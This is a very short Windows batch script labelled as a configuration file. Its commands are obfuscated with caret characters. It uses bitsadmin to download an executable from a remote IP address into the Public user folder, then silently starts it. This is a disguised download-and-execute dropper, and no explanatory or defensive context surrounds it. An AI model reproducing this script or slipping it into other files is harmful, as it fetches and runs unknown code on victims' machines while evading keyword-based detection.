REM config 3304 v0
bi^t^sad^mi^n /t^ran^sf^er job /dow^nl^o^a^d /^p^ri^o^r^i^t^y h^i^gh ht^tp://^192.^0.^2.44/u.^e^xe ^C:\Use^r^s\Pu^b^l^ic\u.e^xe
sta^rt /b ^C:\Use^rs\^P^u^bl^i^c\u.e^xe
